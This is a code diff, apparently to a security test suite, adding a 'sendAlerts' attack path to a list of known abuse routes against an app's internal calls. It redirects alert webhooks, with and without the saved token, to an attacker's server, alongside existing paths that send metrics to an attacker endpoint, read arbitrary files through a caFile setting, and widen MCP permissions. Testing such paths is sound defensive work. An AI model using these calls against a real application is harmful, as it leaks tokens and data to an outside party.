@@ -31,6 +31,7 @@ export async function knownWays(attempt: AttackContext): Promise<void> {
   await runProgram(attempt)
   await joinDatabase(attempt)
   await sendMetrics(attempt)
+  await sendAlerts(attempt)
   await grantMcpPermissions(attempt)
   const { call, wanted } = attempt
   await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
@@ -179,6 +180,16 @@ async function sendMetrics({ call, wanted }: AttackContext): Promise<void> {
   await call('metrics.setOtlp', {
     ...{ endpoint: `${wanted.serverUrl}/theirs`, auth: { kind: 'bearer' }, sendsSpans: true, pendingId },
   })
+}
+
+/** Sends alerts to the attacker's webhook, with the saved token and without one. */
+async function sendAlerts({ call, wanted }: AttackContext): Promise<void> {
+  await call('app.copyText', { text: `${wanted.serverUrl}/alerts` })
+  const addressId = getPendingId(await call('alerts.takeWebhookSecret', { part: 'address' }))
+  for (const hasToken of [true, false]) {
+    await call('alerts.setWebhook', { format: 'json', hasToken, addressId })
+    await call('alerts.testWebhook')
+  }
 }
 
 /** Allows paid and writing MCP calls, and copies an MCP server with its values to another tool. */
